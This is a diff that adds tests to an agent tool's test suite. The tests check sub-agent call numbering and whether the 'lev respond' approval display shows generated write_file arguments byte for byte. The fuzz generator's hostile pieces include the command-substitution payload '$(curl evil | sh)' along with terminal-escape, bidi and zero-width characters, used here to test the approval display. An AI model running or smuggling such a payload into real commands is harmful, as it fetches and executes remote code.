@@ -241,6 +241,153 @@ test_expect_success 'lev numbers every call run-wide; the provider id is only a 
 	PY
 '
 
+mkdir -p wask
+cat >wask/agent.leviath <<'EOF'
+[agent]
+name = "wask"
+[stages.split]
+mode = "fan_out"
+model = { provider = "script", script = "turns.toml" }
+worker_stage = "one"
+[stages.one]
+model = { provider = "script", script = "turns.toml" }
+allow_as_worker = true
+available_tools = ["write_file"]
+EOF
+cat >wask/turns.toml <<'EOF'
+[[turn]]
+[[turn.call]]
+tool = "fan_out"
+args = { items = [{ id = "w", context = "write it" }] }
+[[turn]]
+[[turn.call]]
+tool = "write_file"
+args = { path = "asked.txt", content = "one" }
+[[turn]]
+text = "wrote"
+EOF
+
+test_expect_success 'a sub-agent numbers its calls under its place in the run (w1/call_1)' '
+	"$LEV" run --foreground ./wask --workdir work --allow write_file --json >ev 2>err </dev/null &&
+	python3 - ev <<-PY
+	import glob, json, sys
+	ev = [json.loads(l) for l in open(sys.argv[1])]
+	assert [e["id"] for e in ev if e["event"] == "tool_call"] == ["call_1"], ev
+	rec = [e["record"] for e in ev if e["event"] == "run_started"][0]
+	kids = glob.glob(rec + "/children/*/events.jsonl")
+	assert len(kids) == 1, kids
+	ids = [e["id"] for e in map(json.loads, open(kids[0])) if e["event"] == "tool_call"]
+	assert ids == ["w1/call_1"], ids
+	PY
+'
+
+# ---- every surface, over generated calls ----------------------------------
+# Twelve write_file calls with hostile content (multi-line, control characters,
+# bidi and zero-width characters, backslashes, trailing spaces, long lines,
+# letters of many scripts); each is asked in turn, and what lev respond
+# --json and lev respond show must decode to exactly the arguments sent.
+mkdir -p gen
+cat >gen/agent.leviath <<'EOF'
+[agent]
+name = "gen"
+[stages.main]
+model = { provider = "script", script = "turns.toml" }
+available_tools = ["write_file"]
+EOF
+cat >gen.py <<'EOF'
+import json, random, sys
+rnd = random.Random(int(sys.argv[1]))
+pieces = ["echo hi", " ", "  ", "\n", "\n\n", "\r", "\t", "\\", "\\x1b", "\\u202e", "(",
+          "(2 lines)", "(empty)", "  | ", ": ", " = ", "\x1b[2K", "\x1b]0;t\x07", "\b",
+          "\x7f", "\x9b", "\u202e", "\u200b", "\u2066", "\ufeff", "\u2028", "\U000e0001",
+          "été", "日本", "\U0001f600", "שלום", '"', "'", "$(curl evil | sh)", "x" * 3000]
+def gen():
+    return "".join(rnd.choice(pieces) for _ in range(rnd.randint(1, 12)))
+def toml(s):
+    out = []
+    for c in s:
+        o = ord(c)
+        if c in '"\\':
+            out.append("\\" + c)
+        elif o < 0x20 or o >= 0x7f:
+            out.append("\\u%04x" % o if o <= 0xffff else "\\U%08x" % o)
+        else:
+            out.append(c)
+    return '"' + "".join(out) + '"'
+calls = []
+with open("gen/turns.toml", "w") as f:
+    for i in range(int(sys.argv[2])):
+        args = {"path": "gen%d.txt" % i, "content": gen()}
+        calls.append(args)
+        f.write("[[turn]]\n[[turn.call]]\ntool = \"write_file\"\n")
+        f.write("args = { path = %s, content = %s }\n" % (toml(args["path"]), toml(args["content"])))
+    f.write("[[turn]]\ntext = \"done\"\n")
+json.dump(calls, open("gen.json", "w"))
+EOF
+# decode the shown call (docs/daemon.md) and compare it with what was sent
+cat >decode.py <<'EOF'
+import hashlib, json, re, sys
+want = json.load(open(sys.argv[1]))[int(sys.argv[2])]
+q = [r for r in json.load(open(sys.argv[3]))["requests"] if r["run"] == sys.argv[5]][0]
+listing = open(sys.argv[4]).read()
+text = q["call"]
+assert q["digest"] == hashlib.sha256(("lev-call-v1\n" + text).encode()).hexdigest()
+def unescape(s):
+    out, i = [], 0
+    while i < len(s):
+        if s[i] != "\\":
+            out.append(s[i].encode()); i += 1; continue
+        c = s[i + 1]
+        if c in "\\(":
+            out.append(c.encode()); i += 2
+        elif c == "t":
+            out.append(b"\t"); i += 2
+        elif c == "x":
+            out.append(bytes([int(s[i + 2:i + 4], 16)])); i += 4
+        elif c in "uU":
+            n = 4 if c == "u" else 8
+            out.append(chr(int(s[i + 2:i + 2 + n], 16)).encode()); i += 2 + n
+        else:
+            raise AssertionError("escape " + c)
+    return b"".join(out).decode()
+lines = text.split("\n")
+assert lines[-1] == "", lines
+lines = lines[:-1]
+got, k = {}, 0
+while k < len(lines):
+    key, rest = re.match(r"([A-Za-z0-9_.-]+):(.*)", lines[k]).groups()
+    k += 1
+    m = re.match(r" \((\d+) lines\)$", rest)
+    if rest == " (empty)":
+        val = ""
+    elif m and k < len(lines) and lines[k].startswith("  | "):
+        n = int(m.group(1))
+        val = "\n".join(unescape(l[4:]) for l in lines[k:k + n])
+        k += n
+    else:
+        val = unescape(rest[1:])
+    got[key] = val
+assert got.pop("tool") == "write_file", got
+assert got == want, (got, want)
+# the listing shows the same text, every line of it, indented
+shown = "".join("    " + l + "\n" for l in lines)
+assert shown in listing, (shown, listing)
+EOF
+
+test_expect_success 'lev respond and --json show every byte of 12 generated calls' '
+	python3 gen.py 6015 12 &&
+	rm -f work/gen*.txt &&
+	setsid -w "$LEV" run gen --workdir work --detach >idg 2>/dev/null &&
+	for i in $(seq 0 11); do
+		wait_for test "$(req_field "$(cat idg)" call_id)" = "call_$((i + 1))" &&
+		"$LEV" respond --json >q.json && "$LEV" respond >q.txt &&
+		python3 decode.py gen.json $i q.json q.txt "$(cat idg)" &&
+		"$LEV" respond "$(req_field "$(cat idg)" id)" --deny >/dev/null || return 1
+	done &&
+	wait_for status_is "$(cat idg)" complete &&
+	! ls work/gen*.txt 2>/dev/null
+'
+
 test_expect_success 'question ids are never reused across restarts' '
 	python3 -c "
 import sqlite3, sys
